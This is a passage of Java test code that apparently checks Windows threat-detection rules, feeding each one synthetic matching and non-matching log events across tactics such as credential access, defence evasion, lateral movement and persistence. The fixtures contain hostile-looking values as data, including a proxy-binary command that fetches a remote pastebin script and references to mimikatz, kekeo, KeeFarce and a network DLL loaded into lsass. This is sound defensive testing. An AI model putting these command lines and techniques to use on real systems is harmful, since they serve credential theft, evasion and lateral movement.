                        channel(BITS, BITS_PROVIDER, 3, "jobTitle", "Download LockScreen Image", "processPath",
                                SYS32 + "desktopimgdownldr.exe")),
                List.of(channel(BITS, BITS_PROVIDER, 3, "jobTitle", "Font Download", "processPath", SVCHOST),
                        channel(BITS, BITS_PROVIDER, 3, "jobTitle", "PreSignInSettingsConfigJSON", "processPath",
                                "C:\\Users\\eve\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"),
                        channel(BITS, BITS_PROVIDER, 4, "jobTitle", "47c090fb.png", "processPath",
                                "C:\\Windows\\SysWOW64\\notepad.exe")));

        // credential access
        rule("dotlink_app_lsass_silent_process_exit.yml",
                List.of(application("Microsoft-Windows-ProcessExitMonitor", 3001, "EventData_Name",
                        "EVENT_PROCESSTERMINATION_CROSSPROCESS", "param1", SYS32 + "lsass.exe", "param2",
                        "C:\\Users\\eve\\Desktop\\LsassSilentProcessExit.exe", "param3", "0")),
                List.of(application("Microsoft-Windows-ProcessExitMonitor", 3001, "param1", SYS32 + "notepad.exe",
                                "param2", SYS32 + "taskkill.exe"),
                        application("Microsoft-Windows-ProcessExitMonitor", 3000, "param1", SYS32 + "lsass.exe")));
        rule("dotlink_sec_protected_storage_pipe.yml",
                List.of(security(5145, "SubjectUserName", "backdoor", "IpAddress", "172.16.66.1", "ShareName", "\\\\*\\IPC$",
                        "RelativeTargetName", "protected_storage", "AccessMask", "0x12019f", "AccessList", ALL_ACCESS_PIPE)),
                List.of(security(5145, "IpAddress", "::1", "ShareName", "\\\\*\\IPC$", "RelativeTargetName", "protected_storage"),
                        security(5145, "IpAddress", "172.16.66.1", "ShareName", "\\\\*\\IPC$", "RelativeTargetName", "lsarpc")));
        rule("dotlink_sec_browser_password_reveal.yml",
                List.of(security(4624, "TargetUserName", "IEUser", "LogonType", "2", "LogonProcessName", "Chrome",
                                "ProcessName", "C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe"),
                        security(4625, "TargetUserName", "IEUser", "LogonType", "2", "Status", "0xc000006d",
                                "ProcessName", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe")),
                List.of(security(4624, "TargetUserName", "IEUser", "LogonType", "2", "ProcessName", SYS32 + "winlogon.exe"),
                        security(4648, "TargetUserName", "IEUser", "ProcessName",
                                "C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe")));
        rule("dotlink_access_remote_tool_memory.yml",
                List.of(sysmon(10, "SourceImage", "C:\\Users\\eve\\AppData\\Local\\Temp\\frida-b4f3\\frida-winjector-helper-32.exe",
                        "TargetImage", "C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe", "GrantedAccess", "0x147a")),
                List.of(sysmon(10, "SourceImage", "C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe",
                                "TargetImage", "C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe", "GrantedAccess", "0x1fffff"),
                        sysmon(10, "SourceImage", "C:\\Users\\eve\\Desktop\\tool.exe",
                                "TargetImage", "C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe", "GrantedAccess", "0x1000")));
        rule("dotlink_pipe_kekeo_tsssp.yml",
                List.of(sysmon(17, "EventType", "CreatePipe", "PipeName", "\\kekeo_tsssp_endpoint", "Image",
                                "c:\\Users\\eve\\Desktop\\kekeo.exe"),
                        sysmon(18, "EventType", "ConnectPipe", "PipeName", "\\kekeo_tsssp_endpoint", "Image", "System")),
                List.of(sysmon(18, "EventType", "ConnectPipe", "PipeName", "\\srvsvc", "Image", SYS32 + "wbem\\wmiprvse.exe"),
                        sysmon(17, "EventType", "CreatePipe", "PipeName", "\\kekeo_tsssp_endpoint_old", "Image", "C:\\tools\\x.exe")));
        rule("dotlink_reg_directinput_user_program.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", "C:\\Users\\eve\\Desktop\\keylogger_directx.exe", "TargetObject",
                        SYSMON_REG + "\\Software\\Microsoft\\DirectInput\\MostRecentApplication\\Name", "Details",
                        "KEYLOGGER_DIRECTX.EXE")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", "C:\\Program Files\\Game\\game.exe", "TargetObject",
                                SYSMON_REG + "\\Software\\Microsoft\\DirectInput\\MostRecentApplication\\Name", "Details", "GAME.EXE"),
                        sysmon(13, "EventType", "SetValue", "Image", "C:\\Users\\eve\\Desktop\\tool.exe", "TargetObject",
                                SYSMON_REG + "\\Software\\Vendor\\Settings\\Name")));

        // defence evasion
        rule("dotlink_proc_eventlog_service_crash.yml",
                List.of(process(SYS32 + "WerFault.exe", "C:\\Windows\\system32\\WerFault.exe -u -p 3004 -s 632",
                        "ParentImage", SVCHOST, "ParentCommandLine",
                        "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog")),
                List.of(process(SYS32 + "WerFault.exe", "C:\\Windows\\system32\\WerFault.exe -u -p 3004 -s 632",
                                "ParentImage", SVCHOST, "ParentCommandLine",
                                "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp"),
                        process(SYS32 + "wevtutil.exe", "wevtutil qe System", "ParentImage", SVCHOST, "ParentCommandLine",
                                "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog")));
        rule("dotlink_sec_boot_debug_testsigning.yml",
                List.of(security(4826, "KernelDebug", "%%1842", "TestSigning", "%%1843", "DisableIntegrityChecks", "%%1843"),
                        security(4826, "KernelDebug", "%%1843", "TestSigning", "%%1842", "DisableIntegrityChecks", "%%1843")),
                List.of(security(4826, "KernelDebug", "%%1843", "TestSigning", "%%1843", "DisableIntegrityChecks", "%%1843",
                                "HypervisorDebug", "%%1842"),
                        security(4825, "KernelDebug", "%%1842")));
        rule("dotlink_reg_powershell_lockdown_removed.yml",
                List.of(sysmon(12, "EventType", "DeleteValue", "Image", POWERSHELL, "TargetObject",
                                "HKLM\\System\\CurrentControlSet\\Control\\SESSION MANAGER\\Environment\\__PSLockdownPolicy"),
                        sysmon(13, "EventType", "SetValue", "Image", SYS32 + "reg.exe", "TargetObject",
                                "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\Environment\\__PSLockdownPolicy",
                                "Details", "DWORD (0x00000008)")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", SYS32 + "reg.exe", "TargetObject",
                                "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\Environment\\__PSLockdownPolicy",
                                "Details", "DWORD (0x00000004)"),
                        sysmon(12, "EventType", "DeleteValue", "Image", POWERSHELL, "TargetObject",
                                "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\Environment\\TEMP")));
        rule("dotlink_reg_eventlog_channel_disabled.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-CAPI2/Operational\\Enabled",
                        "Details", "DWORD (0x00000000)")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-CAPI2/Operational\\Enabled",
                                "Details", "DWORD (0x00000001)"),
                        sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-CAPI2/Operational\\MaxSize",
                                "Details", "DWORD (0x00000000)")));
        rule("dotlink_pipe_psexec_renamed_service.yml",
                List.of(sysmon(17, "EventType", "CreatePipe", "PipeName", "\\svchost-MSEDGEWIN10-8116-stdin", "Image",
                                "C:\\Windows\\svchost.exe"),
                        sysmon(18, "EventType", "ConnectPipe", "PipeName", "\\svchost-MSEDGEWIN10-8116-stderr", "Image",
                                SYS32 + "PsExec.exe")),
                List.of(sysmon(17, "EventType", "CreatePipe", "PipeName", "\\PSEXESVC-WS042-4711-stdin", "Image",
                                "C:\\Windows\\PSEXESVC.exe"),
                        sysmon(17, "EventType", "CreatePipe", "PipeName", "\\svchost", "Image", "C:\\Windows\\svchost.exe"),
                        sysmon(17, "EventType", "CreatePipe", "PipeName", "\\mojo.1234.5678.stdin", "Image",
                                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe")));
        rule("dotlink_file_driver_from_user_folder.yml",
                List.of(sysmon(11, "Image", "c:\\Users\\Public\\BYOV\\TDL\\Furutaka.exe", "TargetFilename",
                        SYS32 + "drivers\\VBoxDrv.sys")),
                List.of(sysmon(11, "Image", SYS32 + "drvinst.exe", "TargetFilename", SYS32 + "drivers\\VBoxDrv.sys"),
                        sysmon(11, "Image", "C:\\Users\\Public\\tool.exe", "TargetFilename", SYS32 + "drivers\\etc\\hosts")));
        rule("dotlink_image_service_host_unsigned_dll.yml",
                List.of(sysmon(7, "Image", SVCHOST, "ImageLoaded", "C:\\ProgramData\\chocolatey\\bin\\cdpsgshims.dll",
                                "Signed", "false", "SignatureStatus", "Unavailable"),
                        sysmon(7, "Image", SYS32 + "taskhostw.exe", "ImageLoaded",
                                "C:\\Users\\Public\\tools\\system32\\npmproxy.dll", "Signed", "false")),
                List.of(sysmon(7, "Image", SVCHOST, "ImageLoaded", "C:\\ProgramData\\Vendor\\agent.dll", "Signed", "true",
                                "SignatureStatus", "Valid"),
                        sysmon(7, "Image", "C:\\ProgramData\\app\\svchost.exe", "ImageLoaded", "C:\\ProgramData\\app\\x.dll",
                                "Signed", "false")));
        rule("dotlink_sec_transaction_user_writable.yml",
                List.of(security(4985, "SubjectUserName", "IEUser", "NewState", "48", "ProcessName",
                        "C:\\ProgramData\\proc_doppel64.exe")),
                List.of(security(4985, "SubjectUserName", "SYSTEM", "NewState", "48", "ProcessName", SYS32 + "msiexec.exe"),
                        security(4656, "ProcessName", "C:\\ProgramData\\proc_doppel64.exe")));
        rule("dotlink_remote_thread_from_user_folder.yml",
                List.of(sysmon(8, "SourceImage", "\\\\vboxsrv\\HTools\\m.exe", "TargetImage", "C:\\Windows\\explorer.exe",
                                "StartAddress", "0x02060000"),
                        sysmon(8, "SourceImage", "C:\\Users\\Public\\KeeFarce.exe", "TargetImage",
                                "C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe")),
                List.of(sysmon(8, "SourceImage", POWERSHELL, "TargetImage", SYS32 + "notepad.exe"),
                        sysmon(8, "SourceImage", "C:\\Users\\eve\\AppData\\Roaming\\WINWORD.exe", "TargetImage",
                                "C:\\Users\\eve\\AppData\\Roaming\\WINWORD.exe")));
        rule("dotlink_access_suspend_only.yml",
                List.of(sysmon(10, "SourceImage", "C:\\Users\\eve\\Desktop\\Win32\\mimikatz.exe", "TargetImage",
                        "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe", "GrantedAccess", "0x800")),
                List.of(sysmon(10, "SourceImage", "C:\\Users\\eve\\Desktop\\Win32\\mimikatz.exe", "TargetImage",
                                SYS32 + "notepad.exe", "GrantedAccess", "0x1000"),
                        sysmon(10, "SourceImage", SYS32 + "Taskmgr.exe", "TargetImage", SYS32 + "notepad.exe",
                                "GrantedAccess", "0x800")));
        rule("dotlink_file_timestomp_autostart.yml",
                List.of(sysmon(2, "Image", "C:\\Windows\\Explorer.EXE", "TargetFilename",
                                "C:\\Users\\eve\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\bs.ps1",
                                "PreviousCreationUtcTime", "2019-04-30 10:12:45.583"),
                        sysmon(2, "Image", "C:\\Users\\eve\\Downloads\\Flash_update.exe", "TargetFilename",
                                "C:\\Users\\eve\\AppData\\Roaming\\NvSmartMax.dll")),
                List.of(sysmon(2, "Image", SYS32 + "msiexec.exe", "TargetFilename",
                                "C:\\Users\\eve\\AppData\\Local\\Temp\\302a23.msi"),
                        sysmon(2, "Image", SYS32 + "msiexec.exe", "TargetFilename", "C:\\ProgramData\\Vendor\\agent.dll"),
                        sysmon(2, "Image", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "TargetFilename",
                                "C:\\Users\\eve\\Downloads\\setup.exe")));

        // discovery
        rule("dotlink_sec_local_group_enum_net.yml",
                List.of(security(4799, "TargetUserName", "Administrators", "TargetSid", "S-1-5-32-544", "SubjectUserName", "jbrown",
                                "CallerProcessId", "0x23e8", "CallerProcessName", SYS32 + "net1.exe"),
                        security(4798, "TargetUserName", "Administrator", "SubjectUserName", "IEUser",
                                "CallerProcessName", SYS32 + "net1.exe")),
                List.of(security(4799, "TargetUserName", "Administrators", "SubjectUserName", "WS042$",
                                "CallerProcessName", SYS32 + "VSSVC.exe"),
                        security(4732, "TargetUserName", "Administrators", "CallerProcessName", SYS32 + "net1.exe")));
        rule("dotlink_net_powershell_ldap.yml",
                List.of(sysmon(3, "Image", POWERSHELL, "User", "CORP\\Administrator", "Initiated", "true", "DestinationIp",
                        "10.59.4.11", "DestinationPort", "389")),
                List.of(sysmon(3, "Image", POWERSHELL, "Initiated", "true", "DestinationIp", "10.59.4.11", "DestinationPort",
                                "9389"),
                        sysmon(3, "Image", SYS32 + "lsass.exe", "Initiated", "true", "DestinationPort", "389")));

        // execution
        rule("dotlink_proc_shell_from_proxy_binary.yml",
                List.of(process(CMD, "c:\\windows\\system32\\cmd.exe", "ParentImage", SYS32 + "wuauclt.exe", "ParentCommandLine",
                                "wuauclt.exe /UpdateDeploymentProvider C:\\ProgramData\\Intel\\helpa.dll /RunHandlerComServer"),
                        process(CMD, "cmd", "ParentImage", "C:\\Windows\\Installer\\MSI4FFD.tmp"),
                        process(CMD, "\"C:\\Windows\\System32\\cmd.exe\"", "ParentImage", "C:\\ProgramData\\jabber.exe",
                                "ParentCommandLine", "jabber.exe /u /s /i:http://pastebin.com/raw/H4A4iDTA .\\jabber.dll")),
                List.of(process(CMD, "\"C:\\Windows\\system32\\cmd.exe\"", "ParentImage", "C:\\Windows\\explorer.exe"),
                        process(SYS32 + "notepad.exe", "notepad.exe", "ParentImage", SYS32 + "wuauclt.exe"),
                        process(CMD, "cmd /c install.bat", "ParentImage", SYS32 + "msiexec.exe")));
        rule("dotlink_proc_browser_shell.yml",
                List.of(process(CMD, "cmd.exe", "ParentImage", "C:\\Program Files\\Internet Explorer\\iexplore.exe"),
                        process(SYS32 + "mshta.exe", "\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Users\\eve\\Downloads\\update.hta\"",
                                "ParentImage", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe")),
                List.of(process(CMD, "C:\\Windows\\system32\\cmd.exe /d /c \"C:\\Program Files\\Vendor\\host.bat\""
                                + " chrome-extension://abcdefghijklmnop/ --parent-window=0",
                                "ParentImage", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
                        process(SYS32 + "notepad.exe", "notepad.exe", "ParentImage",
                                "C:\\Program Files\\Internet Explorer\\iexplore.exe")));
        rule("dotlink_app_cpl_from_user_folder.yml",
                List.of(channel("Microsoft-Windows-Application-Experience/Program-Compatibility-Assistant",
                        "Microsoft-Windows-Program-Compatibility-Assistant", 17, "ExePath",
                        "C:\\Users\\IEUser\\Downloads\\Invoice@0582.cpl", "ResolverName", "ControlPanelApplet")),
                List.of(channel("Microsoft-Windows-Application-Experience/Program-Compatibility-Assistant",
                                "Microsoft-Windows-Program-Compatibility-Assistant", 17, "ExePath",
                                "C:\\Users\\IEUser\\Desktop\\procexp64.exe", "ResolverName", "WrpKeyMitigation"),
                        channel("Microsoft-Windows-Application-Experience/Program-Compatibility-Assistant",
                                "Microsoft-Windows-Program-Compatibility-Assistant", 17, "ExePath", SYS32 + "appwiz.cpl",
                                "ResolverName", "ControlPanelApplet")));
        rule("dotlink_proc_wsh_jscript9_engine.yml",
                List.of(process("C:\\ProgramData\\winpm.exe",
                        "winpm.exe  //e:{16d51579-a30b-4c8b-a276-0ff4dc41e755} winpm_update.js")),
                List.of(process(SYS32 + "wscript.exe", "wscript.exe //e:jscript C:\\Scripts\\logon.js"),
                        process(SYS32 + "cscript.exe", "cscript.exe //nologo C:\\Scripts\\inventory.vbs")));

        // lateral movement
        rule("dotlink_sec_svcctl_remote_write.yml",
                List.of(security(5145, "SubjectUserName", "Administrator", "IpAddress", "10.0.2.17", "ShareName", "\\\\*\\IPC$",
                        "RelativeTargetName", "svcctl", "AccessMask", "0x12019f", "AccessList", ALL_ACCESS_PIPE)),
                List.of(security(5145, "SubjectUserName", "Administrator", "IpAddress", "10.0.2.17", "ShareName", "\\\\*\\IPC$",
                                "RelativeTargetName", "svcctl", "AccessMask", "0x1", "AccessList", "%%4416\n\t\t\t\t"),
                        security(5145, "IpAddress", "10.0.2.17", "ShareName", "\\\\*\\IPC$", "RelativeTargetName", "srvsvc",
                                "AccessList", ALL_ACCESS_PIPE)));
        rule("dotlink_sec_admin_share_program_write.yml",
                List.of(security(5145, "SubjectUserName", "IEUser", "IpAddress", "10.0.2.16", "ShareName", "\\\\*\\ADMIN$",
                                "ShareLocalPath", "\\??\\C:\\Windows", "RelativeTargetName", "System32\\RemComSvc.exe",
                                "AccessMask", "0x120196",
                                "AccessList", "%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4417\n\t\t\t\t%%4418\n\t\t\t\t%%4420\n\t\t\t\t"),
                        security(5145, "SubjectUserName", "Administrator", "IpAddress", "10.0.2.15", "ShareName", "\\\\*\\C$",
                                "RelativeTargetName", "Windows\\Temp\\setup.bat", "AccessMask", "0x17019f",
                                "AccessList", ALL_ACCESS_PIPE)),
                List.of(security(5145, "IpAddress", "10.0.2.15", "ShareName", "\\\\*\\C$", "RelativeTargetName",
                                "Program Files\\desktop.exe", "AccessList", READ_ONLY),
                        security(5145, "IpAddress", "10.0.2.15", "ShareName", "\\\\*\\ADMIN$", "RelativeTargetName",
                                "Temp\\CYAlyNSS.tmp", "AccessList", ALL_ACCESS_PIPE),
                        security(5145, "IpAddress", "10.0.2.15", "ShareName", "\\\\*\\Software", "RelativeTargetName",
                                "installers\\agent.exe", "AccessList", ALL_ACCESS_PIPE)));
        rule("dotlink_sec_atsvc_remote_write.yml",
                List.of(security(5145, "SubjectUserName", "Administrator", "IpAddress", "10.0.2.17", "ShareName", "\\\\*\\IPC$",
                        "RelativeTargetName", "atsvc", "AccessMask", "0x3", "AccessList", "%%4416\n\t\t\t\t%%4417\n\t\t\t\t")),
                List.of(security(5145, "IpAddress", "10.0.2.17", "ShareName", "\\\\*\\IPC$", "RelativeTargetName", "atsvc",
                                "AccessMask", "0x1", "AccessList", "%%4416\n\t\t\t\t"),
                        security(5145, "IpAddress", "10.0.2.17", "ShareName", "\\\\*\\IPC$", "RelativeTargetName", "winreg",
                                "AccessList", ALL_ACCESS_PIPE)));
        rule("dotlink_sys_dcom_lateral_object_launch.yml",
                List.of(system("Microsoft-Windows-DistributedCOM", 10016, "param1", "application-specific", "param2", "Remote",
                                "param3", "Launch", "param4", "{C08AFD90-F2A1-11D1-8455-00A0C91F3880}", "param9", "10.0.2.17"),
                        system("Microsoft-Windows-DistributedCOM", 10016, "param2", "Remote", "param3", "Activation",
                                "param4", "{49B2791A-B1AE-4C90-9B8E-E860BA07F889}", "param9", "10.0.2.17")),
                List.of(system("Microsoft-Windows-DistributedCOM", 10016, "param2", "Local", "param3", "Launch",
                                "param4", "{C08AFD90-F2A1-11D1-8455-00A0C91F3880}", "param9", "LocalHost (Using LRPC)"),
                        system("Microsoft-Windows-DistributedCOM", 10016, "param2", "Remote", "param3", "Launch",
                                "param4", "Windows.SecurityCenter.WscBrokerManager", "param9", "10.0.2.17")));
        rule("dotlink_net_dcom_host_inbound.yml",
                List.of(sysmon(3, "Image", "C:\\Windows\\explorer.exe", "Initiated", "false", "SourceIp", "10.0.2.16",
                                "SourcePort", "49158", "DestinationIp", "10.0.2.17", "DestinationPort", "55099"),
                        sysmon(3, "Image", SYS32 + "mshta.exe", "Initiated", "false", "SourceIp", "10.0.2.16",
                                "DestinationIp", "10.0.2.17", "DestinationPort", "55683")),
                List.of(sysmon(3, "Image", "C:\\Windows\\explorer.exe", "Initiated", "true", "DestinationIp", "13.107.4.50",
                                "DestinationPort", "443"),
                        sysmon(3, "Image", SYS32 + "mmc.exe", "Initiated", "false", "SourceIp", "fe80:0:0:0:80ac:4126:fa58:1b81",
                                "DestinationIp", "fe80:0:0:0:80ac:4126:fa58:1b81", "DestinationPort", "135"),
                        sysmon(3, "Image", "C:\\Windows\\explorer.exe", "Initiated", "false", "SourceIp", "127.0.0.1",
                                "DestinationIp", "127.0.0.1", "DestinationPort", "50123")));
        rule("dotlink_reg_null_session_pipes.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", SYS32 + "reg.exe", "TargetObject",
                        "HKLM\\System\\CurrentControlSet\\services\\LanmanServer\\Parameters\\NullSessionPipes",
                        "Details", "Binary Data")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", SYS32 + "reg.exe", "TargetObject",
                        "HKLM\\System\\CurrentControlSet\\services\\LanmanServer\\Parameters\\AutoShareWks",
                        "Details", "DWORD (0x00000000)")));
        rule("dotlink_reg_lsa_extension_network_dll.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                        "HKLM\\System\\CurrentControlSet\\Services\\NTDS\\DirectoryServiceExtPt",
                        "Details", "\\\\172.16.66.254\\shared\\lsadb.dll")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\System\\CurrentControlSet\\Services\\NTDS\\DirectoryServiceExtPt",
                                "Details", "C:\\Windows\\System32\\dsext.dll"),
                        sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\System\\CurrentControlSet\\Services\\NTDS\\Parameters\\DSA Working Directory",
                                "Details", "\\\\172.16.66.254\\shared")));
        rule("dotlink_image_lsass_network_dll.yml",
                List.of(sysmon(7, "Image", SYS32 + "lsass.exe", "ImageLoaded", "\\\\172.16.66.254\\shared\\lsadb.dll",
                        "Signed", "false")),
                List.of(sysmon(7, "Image", SYS32 + "lsass.exe", "ImageLoaded", SYS32 + "msv1_0.dll", "Signed", "true"),
                        sysmon(7, "Image", "C:\\Windows\\explorer.exe", "ImageLoaded", "\\\\fs01\\apps\\shellext.dll")));
        rule("dotlink_proc_run_from_rdp_client_drive.yml",
                List.of(process("\\\\tsclient\\c\\temp\\stack\\a.exe", "\"\\\\tsclient\\c\\temp\\stack\\a.exe\"",
                        "ParentImage", "C:\\Windows\\explorer.exe")),
                List.of(process("C:\\temp\\stack\\a.exe", "\"C:\\temp\\stack\\a.exe\"", "ParentImage", "C:\\Windows\\explorer.exe"),
                        process("\\\\fs01\\tools\\a.exe", "\\\\fs01\\tools\\a.exe")));
        rule("dotlink_file_startup_write_remote.yml",
                List.of(sysmon(11, "Image", "System", "TargetFilename",
                                "C:\\Users\\IEUser\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\onedrive.exe"),
                        sysmon(11, "Image", SYS32 + "mstsc.exe", "TargetFilename",
                                "C:\\Users\\administrator\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\cmd.exe")),
                List.of(sysmon(11, "Image", CMD, "TargetFilename",
                                "C:\\Users\\IEUser\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\bs.ps1"),
                        sysmon(11, "Image", "System", "TargetFilename", "C:\\Users\\Public\\Documents\\report.xlsx")));
        rule("dotlink_winrm_inbound_shell.yml",
                List.of(channel("Microsoft-Windows-WinRM/Operational", "Microsoft-Windows-WinRM", 91, "ErrorCode", "15005",
                                "DataItemName", "shellId"),
                        channel("Microsoft-Windows-WinRM/Operational", "Microsoft-Windows-WinRM", 169, "username",
                                "iewin7\\ieuser", "authenticationMechanism", "NTLM")),
                List.of(channel("Microsoft-Windows-WinRM/Operational", "Microsoft-Windows-WinRM", 169, "username",
                                "corp\\admin", "authenticationMechanism", "Kerberos"),
                        channel("Microsoft-Windows-WinRM/Operational", "Microsoft-Windows-WinRM", 193)));
        rule("dotlink_rdp_tiny_client_screen.yml",
                List.of(channel("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
                                "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 168, "MonitorNum", "0", "MonitorWidth", "200",
                                "MonitorHeight", "200", "ServerName", "WS042"),
                        channel("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
                                "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 168, "MonitorWidth", "1024",
                                "MonitorHeight", "64")),
                List.of(channel("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
                                "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 168, "MonitorWidth", "1920",
                                "MonitorHeight", "1080"),
                        channel("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
                                "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 168, "MonitorWidth", "1024",
                                "MonitorHeight", "768"),
                        channel("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
                                "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 131, "ConnType", "TCP",
                                "ClientIP", "10.0.2.16:52202")));
        rule("dotlink_image_rdp_activex_user_program.yml",
                List.of(sysmon(7, "Image", "C:\\ProgramData\\USOShared\\SharpRDP.exe", "ImageLoaded",
                        "C:\\Windows\\SysWOW64\\mstscax.dll", "Signed", "true")),
                List.of(sysmon(7, "Image", SYS32 + "mstsc.exe", "ImageLoaded", SYS32 + "mstscax.dll"),
                        sysmon(7, "Image", "C:\\Program Files (x86)\\Microsoft\\Remote Desktop Connection Manager\\RDCMan.exe",
                                "ImageLoaded", SYS32 + "mstscax.dll")));
        rule("dotlink_proc_remote_registry_started.yml",
                List.of(process(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k localService -p -s RemoteRegistry",
                        "ParentImage", SYS32 + "services.exe")),
                List.of(process(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s RemoteAccess",
                                "ParentImage", SYS32 + "services.exe"),
                        process(SYS32 + "reg.exe", "reg query \\\\WS042\\HKLM\\Software -s RemoteRegistry")));
        rule("dotlink_net_powershell_remote_rpc.yml",
                List.of(sysmon(3, "Image", POWERSHELL, "Initiated", "true", "DestinationIp", "10.0.2.17", "DestinationPort", "135")),
                List.of(sysmon(3, "Image", POWERSHELL, "Initiated", "true", "DestinationIp", "127.0.0.1", "DestinationPort", "135"),
                        sysmon(3, "Image", POWERSHELL, "Initiated", "true", "DestinationIp", "10.0.2.17",
                                "DestinationPort", "5985")));
        rule("dotlink_sec_network_share_added.yml",
                List.of(security(5142, "SubjectUserName", "IEUser", "ShareName", "\\\\*\\PRINT", "ShareLocalPath",
                        "c:\\windows\\system32")),
                List.of(security(5144, "SubjectUserName", "IEUser", "ShareName", "\\\\*\\PRINT"),
                        security(5140, "ShareName", "\\\\*\\IPC$")));
        rule("dotlink_reg_network_share_added.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                        "HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Shares\\staging", "Details", "Binary Data")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Shares\\Security\\staging",
                                "Details", "Binary Data"),
                        sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Parameters\\ServiceDll")));
        rule("dotlink_reg_wmi_autostart_or_handler.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", SYS32 + "wbem\\wmiprvse.exe", "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\wmipers", "Details",
                                "rundll32.exe a.dll, DllMain"),
                        sysmon(13, "EventType", "SetValue", "Image", SYS32 + "wbem\\wmiprvse.exe", "TargetObject",
                                "HKCR\\ms-browser\\shell\\open\\command\\(Default)", "Details", "cmd.exe /c notepad.exe")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", "C:\\Windows\\regedit.exe", "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\vendor", "Details", "C:\\Program Files\\v.exe"),
                        sysmon(13, "EventType", "SetValue", "Image", SYS32 + "wbem\\wmiprvse.exe", "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Wbem\\CIMOM\\Logging", "Details", "1")));

        // persistence
        rule("dotlink_app_shim_accessibility_binary.yml",
                List.of(channel("Microsoft-Windows-Application-Experience/Program-Telemetry",
                        "Microsoft-Windows-Application-Experience", 500, "FixID", "{8A23A24A-9A8D-44B6-A6D4-556C53A289B5}",
                        "ExePath", SYS32 + "osk.exe", "FixName", "CorrectFilePaths")),
                List.of(channel("Microsoft-Windows-Application-Experience/Program-Telemetry",
                        "Microsoft-Windows-Application-Experience", 500, "ExePath", "C:\\Program Files\\OldApp\\app.exe",
                        "FixName", "WinXPSp3")));
        rule("dotlink_bits_local_file_job.yml",
                List.of(channel(BITS, BITS_PROVIDER, 59, "name", "backdoor", "url", SYS32 + "cmd.exe", "bytesTotal", "302592"),
                        channel(BITS, BITS_PROVIDER, 59, "name", "upd", "url", "\\\\fs01\\share\\payload.exe")),
                List.of(channel(BITS, BITS_PROVIDER, 59, "name", "Font Download", "url",
                                "https://fs.microsoft.com/fs/windows/config.json"),
                        channel(BITS, BITS_PROVIDER, 60, "name", "backdoor", "url", SYS32 + "cmd.exe")));
        rule("dotlink_proc_bits_notify_command.yml",
